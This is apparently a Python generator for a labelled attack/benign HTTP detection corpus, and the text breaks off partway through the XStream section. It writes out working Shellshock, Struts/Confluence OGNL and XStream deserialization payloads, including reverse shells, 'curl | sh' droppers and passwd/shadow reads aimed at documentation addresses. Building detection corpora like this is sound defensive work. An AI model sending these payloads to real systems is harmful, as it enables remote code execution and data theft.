#!/usr/bin/env python3
"""Build picket's labelled detection corpus.

Writes attacks.jsonl and benign.jsonl next to this file. Deterministic: a fixed
seed drives every random choice, gzip uses mtime=0, nothing reads the clock or
the network. Standard library only (Python 3.11).

    python3 corpus/build.py            # build + self-check + counts
    python3 corpus/build.py --check    # only re-check the existing .jsonl files

Every payload below was written for this corpus from public CVE descriptions
and public exploit write-ups; no ruleset text is copied. Addresses inside
payloads are RFC 5737 documentation addresses (192.0.2.0/24, 198.51.100.0/24,
203.0.113.0/24) or names under example.com/.net/.org and the reserved .example
TLD.
"""
import base64
import gzip
import json
import os
import random
import re
import struct
import sys
import zlib
from urllib.parse import quote, urlencode

SEED = 0x51C3E7
HERE = os.path.dirname(os.path.abspath(__file__))
R = random.Random(SEED)

# ---------------------------------------------------------------------------
# pools
# ---------------------------------------------------------------------------
BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.51",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36",
]
CLI_UAS = [
    "curl/8.4.0", "curl/7.88.1", "python-requests/2.31.0", "Go-http-client/1.1", "okhttp/4.12.0",
    "axios/1.6.8", "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "Java/17.0.10",
    "Apache-HttpClient/4.5.14 (Java/11.0.22)", "aiohttp/3.9.5", "Wget/1.21.4", "Dart/3.3 (dart:io)",
    "PostmanRuntime/7.37.3", "Faraday v2.9.0",
]
ATTACK_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36",
    "curl/7.68.0", "python-requests/2.25.1", "Go-http-client/1.1", "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (X11; Linux x86_64; rv:78.0) Gecko/20100101 Firefox/78.0", "Wget/1.20.3 (linux-gnu)",
    "python-urllib3/1.26.5", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
]
HOSTS_PUBLIC = [
    "www.example.com", "shop.example.com", "api.example.org", "app.example.net", "cms.example.org",
    "portal.example.com", "blog.example.net", "forum.example.org", "support.example.com",
    "store.example.net", "docs.example.org", "status.example.com", "m.example.com", "news.example.org",
]
HOSTS_INTERNAL = [
    "orders.svc.cluster.local", "payments.billing.svc.cluster.local:8080", "inventory.svc.cluster.local",
    "users.identity.svc.cluster.local:9000", "search.svc.cluster.local", "reports.analytics.svc.cluster.local",
    "gateway.internal.example.com", "ci.internal.example.net", "grafana.ops.example.org",
    "deploy-api.platform.svc.cluster.local:8443", "notifications.svc.cluster.local", "catalog:8080",
]
ALL_HOSTS = HOSTS_PUBLIC + HOSTS_INTERNAL
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.6", "fr-FR,fr;q=0.9,en-US;q=0.7",
         "es-ES,es;q=0.9", "ja,en-US;q=0.8,en;q=0.6", "nl-NL,nl;q=0.9,en;q=0.7", "pt-BR,pt;q=0.9,en;q=0.5"]
ACCEPT_HTML = ["text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
               "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
               "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"]
ATK_HOSTS = ["203.0.113.7", "203.0.113.42", "198.51.100.23", "192.0.2.66", "evil.example.net",
             "attacker.example.org", "c2.example.com", "cb.oast.example"]


def pick(seq):
    return R.choice(seq)


def hex_mixed(s, safe=""):
    """Percent-encode every non-safe byte with random upper/lower hex digits."""
    out = []
    for b in s.encode():
        c = chr(b)
        if c in safe:
            out.append(c)
        else:
            h = "%02x" % b
            h = "".join(ch.upper() if R.random() < 0.5 else ch for ch in h)
            out.append("%" + h)
    return "".join(out)


# characters that may appear raw in a query value (RFC 3986 pchar minus & = +)
Q_SAFE = "/:@!$'()*,;-._~"


def qv(s):
    return quote(s, safe=Q_SAFE)


def qv_full(s):
    return quote(s, safe="")


def form(pairs):
    return urlencode(pairs, quote_via=quote)


def lower_or_not(name, style):
    return name.lower() if style == "lower" else name


def mk(method, target, headers, body=b"", version="HTTP/1.1", add_cl=True, style=None):
    """Assemble a request. headers: list of (name, value); Content-Length is added
    after Content-Type (or at the end) when there is a body and no framing header."""
    if isinstance(body, str):
        body = body.encode("utf-8")
    hs = list(headers)
    names = [n.lower() for n, _ in hs]
    if add_cl and (body or method in ("POST", "PUT", "PATCH")) and "content-length" not in names \
            and "transfer-encoding" not in names:
        cl = ("Content-Length", str(len(body)))
        if "content-type" in names:
            hs.insert(names.index("content-type") + 1, cl)
        else:
            hs.append(cl)
    if style is None:
        style = "lower" if R.random() < 0.12 else "canon"
    lines = [f"{method} {target} {version}"]
    for n, v in hs:
        lines.append(f"{lower_or_not(n, style)}: {v}")
    head = "\r\n".join(lines) + "\r\n\r\n"
    return head.encode("utf-8") + body


def hdrs_browser(host, ua=None, extra=(), accept=None, referer=None, cookie=None, nav=True):
    ua = ua or pick(BROWSER_UAS)
    chrome = "Chrome/" in ua and "Edg/" not in ua and "Mobile" not in ua
    hs = [("Host", host), ("Connection", "keep-alive")]
    if chrome:
        hs += [("sec-ch-ua", '"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"'),
               ("sec-ch-ua-mobile", "?0"), ("sec-ch-ua-platform", pick(['"Windows"', '"macOS"', '"Linux"']))]
        if nav:
            hs.append(("Upgrade-Insecure-Requests", "1"))
    hs.append(("User-Agent", ua))
    hs.append(("Accept", accept or pick(ACCEPT_HTML)))
    if chrome:
        hs += [("Sec-Fetch-Site", "same-origin" if referer else "none"),
               ("Sec-Fetch-Mode", "navigate" if nav else "cors"), ("Sec-Fetch-Dest", "document" if nav else "empty")]
    if referer:
        hs.append(("Referer", referer))
    hs += [("Accept-Encoding", pick(["gzip, deflate, br", "gzip, deflate, br, zstd", "gzip, deflate"])),
           ("Accept-Language", pick(LANGS))]
    if cookie:
        hs.append(("Cookie", cookie))
    hs += list(extra)
    return hs


def hdrs_api(host, ua=None, ctype=None, accept="application/json", extra=(), auth=True, mesh=None):
    ua = ua or pick(CLI_UAS)
    if mesh is None:
        mesh = host in HOSTS_INTERNAL and R.random() < 0.6
    hs = [("Host", host), ("User-Agent", ua)]
    if accept:
        hs.append(("Accept", accept))
    if ctype:
        hs.append(("Content-Type", ctype))
    if auth and R.random() < 0.6:
        tok = base64.urlsafe_b64encode(bytes(R.getrandbits(8) for _ in range(30))).decode().rstrip("=")
        hs.append(("Authorization", "Bearer " + tok))
    if R.random() < 0.5:
        hs.append(("Accept-Encoding", pick(["gzip", "gzip, deflate", "gzip, deflate, br", "identity"])))
    if mesh:
        hs += [("X-Request-Id", "%08x-%04x-4%03x-a%03x-%012x" % (R.getrandbits(32), R.getrandbits(16),
                                                                  R.getrandbits(12), R.getrandbits(12), R.getrandbits(48))),
               ("X-Forwarded-Proto", "https"), ("X-Envoy-Attempt-Count", "1")]
    hs += list(extra)
    if R.random() < 0.3:
        hs.append(("Connection", pick(["keep-alive", "close"])))
    # light shuffle of everything after Host
    if R.random() < 0.35:
        rest = hs[1:]
        R.shuffle(rest)
        hs = [hs[0]] + rest
    return hs


def hdrs_attack(host, ua=None, extra=(), ctype=None):
    hs = [("Host", host), ("User-Agent", ua or pick(ATTACK_UAS)), ("Accept", pick(["*/*", "text/html,*/*;q=0.8"]))]
    if ctype:
        hs.append(("Content-Type", ctype))
    hs += list(extra)
    if R.random() < 0.4:
        hs.append(("Connection", "close"))
    return hs


def multipart(parts, boundary=None):
    """parts: list of (headers-dict-like list, body bytes). Returns (ctype, body)."""
    boundary = boundary or ("----WebKitFormBoundary" + "".join(R.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(16)))
    out = b""
    for ph, pb in parts:
        out += b"--" + boundary.encode() + b"\r\n"
        for n, v in ph:
            out += (n + ": " + v).encode("utf-8") + b"\r\n"
        out += b"\r\n" + (pb if isinstance(pb, bytes) else pb.encode("utf-8")) + b"\r\n"
    out += b"--" + boundary.encode() + b"--\r\n"
    return "multipart/form-data; boundary=" + boundary, out


def chunked(body, sizes=None, trailers=()):
    if isinstance(body, str):
        body = body.encode()
    out = b""
    i = 0
    sizes = list(sizes or [])
    while i < len(body):
        n = sizes.pop(0) if sizes else R.randint(64, 900)
        piece = body[i:i + n]
        out += b"%x\r\n" % len(piece) + piece + b"\r\n"
        i += n
    out += b"0\r\n"
    for n, v in trailers:
        out += f"{n}: {v}\r\n".encode()
    out += b"\r\n"
    return out


# ===========================================================================
# ATTACKS
# ===========================================================================
CGI_PATHS = ["/cgi-bin/status", "/cgi-bin/test.cgi", "/cgi-bin/admin.cgi", "/cgi-mod/index.cgi",
             "/cgi-sys/defaultwebpage.cgi", "/cgi-bin/test-cgi", "/cgi-bin/printenv.pl", "/cgi-bin/login.sh",
             "/cgi-bin/php5", "/cgi-bin/netstat.cgi", "/cgi-bin/hello.sh", "/cgi-bin/ui/status.cgi"]


def fam_shellshock():
    A = pick(ATK_HOSTS)
    payloads = [
        ("() { :; }; echo; /bin/cat /etc/passwd", "CVE-2014-6271 function def + cat passwd"),
        ('() { :;}; /bin/bash -c "id"', "CVE-2014-6271 compact colon body, bash -c id"),
        ("() { :; }; /usr/bin/wget -qO- http://203.0.113.7/s.sh | /bin/sh", "CVE-2014-6271 download and run"),
        ("() { (a)=>\\' /bin/bash -c 'echo pwned > /tmp/ss'", "CVE-2014-7169 (a)=>\\ redirection parse bug"),
        ("() { (a)=>\\' bash -c \"id\"", "CVE-2014-7169 short form"),
        ("() { _; } >_[$($())] { id; }", "CVE-2014-6278 form"),
        ("() { _; } >_[$($())] { /bin/uname -a; }", "CVE-2014-6278 form, uname"),
        ("() { x() { _; }; x() { _; } <<a; }", "CVE-2014-6277 nested definitions with heredoc"),
        ("() {\t:;\t};\t/bin/uname -a", "CVE-2014-6271 tabs instead of spaces"),
        ("()  {  :;  }  ;  echo ;  echo ; /bin/bash -c 'cat /etc/shadow'", "CVE-2014-6271 extra spaces"),
        ("() { ignored; }; /bin/sleep 20", "CVE-2014-6271 timing probe"),
        ("() { :; }; /bin/ping -c 3 198.51.100.23", "CVE-2014-6271 ping-back"),
        ("() { :; }; /bin/bash -i >& /dev/tcp/203.0.113.42/4444 0>&1", "CVE-2014-6271 reverse shell"),
        ('() { :;};echo -e "\\r\\nX-Check: $(id)"', "CVE-2014-6271 header-echo probe"),
        ("() { foo;};echo;/usr/bin/curl -s http://ss.oast.example/$(hostname)", "CVE-2014-6271 OAST exfil"),
        ("() { :; }; /usr/bin/nslookup shellshock.oast.example", "CVE-2014-6271 DNS callback"),
        ("() { 0; }; /bin/busybox wget http://198.51.100.23/mips -O /tmp/m; /bin/sh /tmp/m", "CVE-2014-6271 IoT dropper"),
        ("() { :; }; echo Content-Type: text/plain; echo; /bin/ls -la /", "CVE-2014-6271 CGI content-type + ls"),
        ("() {:;}; /bin/cat /etc/passwd", "CVE-2014-6271 no space inside braces"),
        ("() { :; } ; /bin/sh -c 'nc -e /bin/sh 203.0.113.7 4444'", "CVE-2014-6271 netcat shell"),
    ]
    locs = ["ua", "referer", "cookie", "custom", "query", "ua", "accept-language", "xff", "custom2"]
    out = []
    for i, (p, note) in enumerate(payloads + payloads[:12]):
        loc = locs[i % len(locs)]
        host = pick(HOSTS_PUBLIC + ["192.0.2.10", "198.51.100.5:8080"])
        path = pick(CGI_PATHS)
        if loc == "query":
            enc = qv_full(p) if i % 2 else hex_mixed(p, safe="abcdefghijklmnopqrstuvwxyz0123456789/.-")
            raw = mk("GET", f"{path}?{enc}", hdrs_attack(host), style="canon")
            note2 = note + " (CGI QUERY_STRING, URL-encoded)"
        else:
            hname = {"ua": "User-Agent", "referer": "Referer", "cookie": "Cookie", "custom": "X-Api-Token",
                     "accept-language": "Accept-Language", "xff": "X-Forwarded-For", "custom2": "Test"}[loc]
            if hname == "User-Agent":
                hs = [("Host", host), ("User-Agent", p), ("Accept", "*/*")]
            else:
                hs = hdrs_attack(host, extra=[(hname, p)])
            meth = "GET"
            body = b""
            if i % 5 == 4:
                meth = "POST"
                hs.append(("Content-Type", "application/x-www-form-urlencoded"))
                body = b"action=status&submit=1"
            raw = mk(meth, path + ("?mode=full" if i % 3 == 0 else ""), hs, body)
            note2 = f"{note} in {hname}"
        out.append((note2, raw))
    return out


def ognl_s2045(cmd, var=0, dollar=False):
    v = [("dm", "ctr", "ou", "cmd", "win", "argv", "pb", "proc", "out"),
         ("a", "b", "c", "x", "w", "cmds", "p", "q", "os")][var % 2]
    opener = "${" if dollar else "%{"
    return (opener + "(#_='multipart/form-data')."
            f"(#{v[0]}=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
            f"(#_memberAccess?(#_memberAccess=#{v[0]}):((#{v[1]}=#context['com.opensymphony.xwork2.ActionContext.container'])."
            f"(#{v[2]}=#{v[1]}.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class))."
            f"(#{v[2]}.getExcludedPackageNames().clear()).(#{v[2]}.getExcludedClasses().clear())."
            f"(#context.setMemberAccess(#{v[0]}))))."
            f"(#{v[3]}='{cmd}')."
            f"(#{v[4]}=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win')))."
            f"(#{v[5]}=(#{v[4]}?{{'cmd.exe','/c',#{v[3]}}}:{{'/bin/sh','-c',#{v[3]}}}))."
            f"(#{v[6]}=new java.lang.ProcessBuilder(#{v[5]})).(#{v[6]}.redirectErrorStream(true)).(#{v[7]}=#{v[6]}.start())."
            f"(#{v[8]}=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream()))."
            f"(@org.apache.commons.io.IOUtils@copy(#{v[7]}.getInputStream(),#{v[8]})).(#{v[8]}.flush())}}")


def fam_struts():
    cmds = ["id", "whoami", "cat /etc/passwd", "uname -a", "nslookup s2.oast.example",
            "curl -s http://203.0.113.42/x|sh", "touch /tmp/struts", "ls -la /opt/tomcat/webapps"]
    actions = ["/struts2-showcase/index.action", "/orders/upload.action", "/login.action", "/index.action",
               "/struts2-rest-showcase/orders", "/app/doUpload.action", "/admin/home.do", "/showcase.action"]
    out = []
    # S2-045 in Content-Type
    for i in range(8):
        cmd = cmds[i]
        payload = ognl_s2045(cmd, var=i, dollar=(i == 5))
        host = pick(ALL_HOSTS)
        raw = mk("GET" if i % 2 else "POST", actions[i], hdrs_attack(host, ctype=payload),
                 b"" if i % 2 else b"x=1")
        out.append((f"S2-045 CVE-2017-5638 OGNL in Content-Type, cmd={cmd!r}", raw))
    short = [
        ("%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Probe',7331*7331)}.multipart/form-data",
         "S2-045 detection probe (addHeader arithmetic)"),
        ("${(#_='multipart/form-data').(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('touch /tmp/s2'))}",
         "S2-045 ${} opener, Runtime.exec"),
        ("multipart/form-data; %{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#p=new java.lang.ProcessBuilder({'id'})).(#p.start())}",
         "S2-045 with valid media type prefix"),
    ]
    for p, note in short:
        out.append((note, mk("POST", pick(actions), hdrs_attack(pick(ALL_HOSTS), ctype=p), b"a=b")))
    # S2-046 in multipart filename
    for i, cmd in enumerate(["id", "cat /etc/passwd", "wget -q http://198.51.100.23/p -O /tmp/p"]):
        fn = ognl_s2045(cmd, var=i).replace("%{", "%{", 1) + "\x00b"
        ctype, body = multipart([([("Content-Disposition", f'form-data; name="upload"; filename="{fn}"'),
                                   ("Content-Type", "text/plain")], b"hello")])
        raw = mk("POST", pick(actions), hdrs_attack(pick(ALL_HOSTS), ctype=ctype), body)
        out.append((f"S2-046 CVE-2017-5638 OGNL in multipart filename with NUL, cmd={cmd!r}", raw))
    # S2-057 namespace in path
    ns = [
        "${(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#ct=#request['struts.valueStack'].context).(#cr=#ct['com.opensymphony.xwork2.ActionContext.container']).(#ou=#cr.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ou.getExcludedPackageNames().clear()).(#ou.getExcludedClasses().clear()).(#ct.setMemberAccess(#dm)).(#a=@java.lang.Runtime@getRuntime().exec('id')).(@org.apache.commons.io.IOUtils@toString(#a.getInputStream()))}",
        "${(#_memberAccess['allowStaticMethodAccess']=true).(#a=@java.lang.Runtime@getRuntime().exec('whoami')).(new java.util.Scanner(#a.getInputStream()).useDelimiter('\\\\A').next())}",
        "${(#a=@java.lang.Runtime@getRuntime().exec('cat /etc/passwd'))}",
    ]
    for i, e in enumerate(ns):
        enc = quote(e, safe="@.'()=") if i != 1 else hex_mixed(e, safe="abcdefghijklmnopqrstuvwxyz.@")
        raw = mk("GET", f"/struts2-showcase/{enc}/actionChain1.action", hdrs_attack(pick(ALL_HOSTS)))
        out.append(("S2-057 CVE-2018-11776 OGNL in namespace path segment, URL-encoded", raw))
    # S2-032 method: prefix
    q = ("method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,%23r%3d@java.lang.Runtime@getRuntime().exec(%23parameters.c%5B0%5D),"
         "%23s%3dnew%20java.util.Scanner(%23r.getInputStream()).useDelimiter(%23parameters.d%5B0%5D),%23w%3d%23context.get(%23parameters.e%5B0%5D).getWriter(),"
         "%23w.print(%23s.next()),%23w.close(),1?%23xx:%23request.toString&c=id&d=%5C%5CA&e=com.opensymphony.xwork2.dispatcher.HttpServletResponse")
    out.append(("S2-032 CVE-2016-3081 dynamic method invocation OGNL in query", mk("GET", "/index.action?" + q, hdrs_attack(pick(ALL_HOSTS)))))
    # S2-016 redirect:
    e = "${#a=new java.lang.ProcessBuilder(new java.lang.String[]{'cat','/etc/passwd'}).redirectErrorStream(true).start(),#b=#a.getInputStream(),#c=new java.io.InputStreamReader(#b),#d=new java.io.BufferedReader(#c),#e=new char[50000],#d.read(#e),#f=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse'),#f.getWriter().println(new java.lang.String(#e)),#f.getWriter().flush(),#f.getWriter().close()}"
    out.append(("S2-016 CVE-2013-2251 redirect: prefix OGNL in query", mk("GET", "/login.action?redirect:" + quote(e, safe="=.'(),"), hdrs_attack(pick(ALL_HOSTS)))))
    out.append(("S2-016 action: prefix, fully URL-encoded", mk("GET", "/index.action?action:" + qv_full("${@java.lang.Runtime@getRuntime().exec('id')}"), hdrs_attack(pick(ALL_HOSTS)))))
    # form-parameter OGNL (S2-001 / S2-048 style)
    e = "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{\"whoami\"})).redirectErrorStream(true).start(),#b=#a.getInputStream(),#c=new java.io.InputStreamReader(#b),#d=new java.io.BufferedReader(#c),#e=new char[50000],#d.read(#e),#f=#context.get(\"com.opensymphony.xwork2.dispatcher.HttpServletResponse\"),#f.getWriter().println(new java.lang.String(#e)),#f.getWriter().flush(),#f.getWriter().close()}"
    out.append(("S2-001 OGNL in form field username", mk("POST", "/login.action", hdrs_attack(pick(ALL_HOSTS), ctype="application/x-www-form-urlencoded"), form([("username", e), ("password", "x")]))))
    e = ognl_s2045("id").replace("(#_='multipart/form-data').", "")
    out.append(("S2-048 CVE-2017-9791 OGNL in struts1-plugin form field", mk("POST", "/struts2-showcase/integration/saveGangster.action", hdrs_attack(pick(ALL_HOSTS), ctype="application/x-www-form-urlencoded"), form([("name", e), ("age", "1"), ("__checkbox_bustedBefore", "true"), ("description", "1")]))))
    # S2-061 CVE-2020-17530 in multipart field id
    e = ('%{(#im=#application["org.apache.tomcat.InstanceManager"]).(#st=#attr["com.opensymphony.xwork2.util.ValueStack.ValueStack"])'
         '.(#bm=#im.newInstance("org.apache.commons.collections.BeanMap")).(#bm.setBean(#st)).(#ctx=#bm.get("context")).(#bm.setBean(#ctx))'
         '.(#ma=#bm.get("memberAccess")).(#bm.setBean(#ma)).(#es=#im.newInstance("java.util.HashSet")).(#bm.put("excludedClasses",#es))'
         '.(#bm.put("excludedPackageNames",#es)).(#al=#im.newInstance("java.util.ArrayList")).(#al.add("id"))'
         '.(#ex=#im.newInstance("freemarker.template.utility.Execute")).(#ex.exec(#al))}')
    ctype, body = multipart([([("Content-Disposition", 'form-data; name="id"')], e)])
    out.append(("S2-061 CVE-2020-17530 forced OGNL evaluation via multipart field", mk("POST", "/index.action", hdrs_attack(pick(ALL_HOSTS), ctype=ctype), body)))
    out.append(("S2-061 same chain in query, URL-encoded", mk("GET", "/index.action?id=" + qv_full(e), hdrs_attack(pick(ALL_HOSTS)))))
    # Confluence OGNL (CVE-2022-26134, CVE-2021-26084)
    e = '${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id").getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader("X-Cmd-Response",#a))}'
    out.append(("CVE-2022-26134 Confluence OGNL in URI path", mk("GET", "/" + quote(e, safe="@.()") + "/", hdrs_attack("wiki.example.com"))))
    e = "aaa\\u0027+{Class.forName(\\u0027javax.script.ScriptEngineManager\\u0027).newInstance().getEngineByName(\\u0027js\\u0027).eval(\\u0027var x=new java.lang.ProcessBuilder;x.command([\"sh\",\"-c\",\"id\"]);x.start()\\u0027)}+\\u0027"
    out.append(("CVE-2021-26084 Confluence queryString OGNL via unicode escapes",
                mk("POST", "/pages/createpage-entervariables.action", hdrs_attack("wiki.example.com", ctype="application/x-www-form-urlencoded"), form([("queryString", e)]))))
    # #_memberAccess in JSON body / header
    e = "(#_memberAccess['allowStaticMethodAccess']=true)(#r=@java.lang.Runtime@getRuntime().exec('uname -a'))"
    out.append(("OGNL #_memberAccess + Runtime.exec in JSON field bound by struts2-json", mk("POST", "/api/profile.action", hdrs_attack(pick(ALL_HOSTS), ctype="application/json"), json.dumps({"name": e, "age": 3}))))
    out.append(("S2-045 payload URL-encoded in query parameter", mk("GET", "/upload.action?content=" + qv_full(ognl_s2045("id", 1)), hdrs_attack(pick(ALL_HOSTS)))))
    out.append(("S2-045 payload double URL-encoded in query parameter", mk("GET", "/upload.action?x=" + qv_full(qv_full("%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('id'))}")), hdrs_attack(pick(ALL_HOSTS)))))
    out.append(("OGNL in custom header evaluated by vulnerable interceptor", mk("GET", "/home.action", hdrs_attack(pick(ALL_HOSTS), extra=[("X-Locale", "%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('whoami'))}")]))))
    return out


def _xml_fmt(xml, style):
    """style 0 pretty(2sp) 1 minified 2 tabs 3 pretty + xml decl + single-quoted attrs"""
    lines = [l.strip() for l in xml.strip().split("\n")]
    if style == 1:
        return "".join(lines)
    depth = 0
    out = []
    for l in lines:
        closing = l.startswith("</")
        selfclose = l.endswith("/>") or (l.startswith("<") and "</" in l[1:])
        if closing:
            depth -= 1
        out.append(("\t" if style == 2 else "  ") * max(depth, 0) + l)
        if not closing and not selfclose and l.startswith("<") and not l.startswith("<?"):
            depth += 1
    s = "\n".join(out)
    if style == 3:
        s = "<?xml version='1.0' encoding='UTF-8'?>\n" + s.replace('class="', "class='").replace('">', "'>").replace('"/>', "'/>")
    return s


def xs_nativestring(cmd_argv):
    strings = "\n".join(f"<string>{a}</string>" for a in cmd_argv)
    return f"""<map>
<entry>
<jdk.nashorn.internal.objects.NativeString>
<flags>0</flags>
<value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data">
<dataHandler>
<dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource">
<is class="javax.crypto.CipherInputStream">
<cipher class="javax.crypto.NullCipher">
<initialized>false</initialized>
<opmode>0</opmode>
<serviceIterator class="javax.imageio.spi.FilterIterator">
<iter class="javax.imageio.spi.FilterIterator">
<iter class="java.util.Collections$EmptyIterator"/>
<next class="java.lang.ProcessBuilder">
<command>
{strings}
</command>
<redirectErrorStream>false</redirectErrorStream>
</next>
</iter>
<filter class="javax.imageio.ImageIO$ContainsFilter">
<method>
<class>java.lang.ProcessBuilder</class>
<name>start</name>
<parameter-types/>
</method>
<name>start</name>
</filter>
<next class="string">start</next>
</serviceIterator>
<lock/>
</cipher>
<input class="java.lang.ProcessBuilder$NullInputStream"/>
<ibuffer/>
<done>false</done>
<ostart>0</ostart>
<ofinish>0</ofinish>
<closed>false</closed>
</is>
<consumed>false</consumed>
</dataSource>
<transferFlavors/>
</dataHandler>
<dataLen>0</dataLen>
</value>
</jdk.nashorn.internal.objects.NativeString>
<jdk.nashorn.internal.objects.NativeString reference="../jdk.nashorn.internal.objects.NativeString"/>
</entry>
<entry>
<jdk.nashorn.internal.objects.NativeString reference="../../entry/jdk.nashorn.internal.objects.NativeString"/>
<jdk.nashorn.internal.objects.NativeString reference="../../entry/jdk.nashorn.internal.objects.NativeString"/>
</entry>
</map>"""


def xs_eventhandler(cmd_argv, root="sorted-set"):
    strings = "\n".join(f"<string>{a}</string>" for a in cmd_argv)
    if root == "sorted-set":
        return f"""<sorted-set>
<string>foo</string>
<dynamic-proxy>
<interface>java.lang.Comparable</interface>
<handler class="java.beans.EventHandler">
<target class="java.lang.ProcessBuilder">
<command>
{strings}
</command>
</target>
<action>start</action>
</handler>
</dynamic-proxy>
</sorted-set>"""
    if root == "tree-map":
        return f"""<tree-map>
<entry>
<string>fookey</string>
<string>foovalue</string>
</entry>
<entry>
<dynamic-proxy>
<interface>java.lang.Comparable</interface>
<handler class="java.beans.EventHandler">
<target class="java.lang.ProcessBuilder">
<command>
{strings}
</command>
</target>
<action>start</action>
</handler>
</dynamic-proxy>
<string>good</string>
</entry>
</tree-map>"""
    # object whose field is a dynamic proxy (CVE-2013-7285 "contact" form)
    return f"""<order>
<id>17</id>
<customer class="dynamic-proxy">
<interface>com.example.shop.Customer</interface>
<handler class="java.beans.EventHandler">
<target class="java.lang.ProcessBuilder">
<command>
{strings}
</command>
</target>
<action>start</action>
</handler>
</customer>
</order>"""


def xs_priorityqueue(cmd_argv):
    strings = "\n".join(f"<string>{a}</string>" for a in cmd_argv)
    return f"""<java.util.PriorityQueue serialization="custom">
<unserializable-parents/>
<java.util.PriorityQueue>
<default>
<size>2</size>
<comparator class="sun.awt.datatransfer.DataTransferer$IndexOrderComparator">
<indexMap class="com.sun.xml.internal.ws.client.ResponseContext">
<packet>
<message class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XMLMultiPart">
<dataSource class="com.sun.xml.internal.ws.message.JAXBAttachment">
<bridge class="com.sun.xml.internal.ws.db.glassfish.BridgeWrapper">
<bridge class="com.sun.xml.internal.bind.v2.runtime.BridgeImpl">
<bi class="com.sun.xml.internal.bind.v2.runtime.ClassBeanInfoImpl">
<jaxbType>com.sun.rowset.JdbcRowSetImpl</jaxbType>
</bi>
</bridge>
</bridge>
</dataSource>
</message>
</packet>
</indexMap>
</comparator>
</default>
<int>3</int>
<javax.naming.ldap.Rdn_-RdnEntry>
<type>ysomap</type>
<value class="javax.swing.MultiUIDefaults" serialization="custom">
<filter class="javax.imageio.ImageIO$ContainsFilter">
<method>
<class>java.lang.ProcessBuilder</class>
<name>start</name>
<parameter-types/>
</method>
<name>start</name>
</filter>
<next class="java.lang.ProcessBuilder">
<command>
{strings}
</command>
</next>
</value>
</javax.naming.ldap.Rdn_-RdnEntry>
</java.util.PriorityQueue>
</java.util.PriorityQueue>"""


def fam_xstream():
    argvs = [
        ["/bin/sh", "-c", "touch /tmp/xs"], ["/bin/sh", "-c", "id &gt; /tmp/id.txt"], ["bash", "-c", "curl -s http://203.0.113.42/x | bash"],
        ["/bin/sh", "-c", "wget http://198.51.100.23/a -O /tmp/a; chmod +x /tmp/a; /tmp/a"], ["/usr/bin/nslookup", "xs.oast.example"],
        ["/bin/bash", "-c", "bash -i &gt;&amp; /dev/tcp/203.0.113.7/9001 0&gt;&amp;1"], ["calc.exe"], ["cmd.exe", "/c", "whoami"],
        ["/bin/sh", "-c", "cat /etc/passwd | nc 203.0.113.7 9002"], ["python3", "-c", "import os;os.system('id')"],
    ]
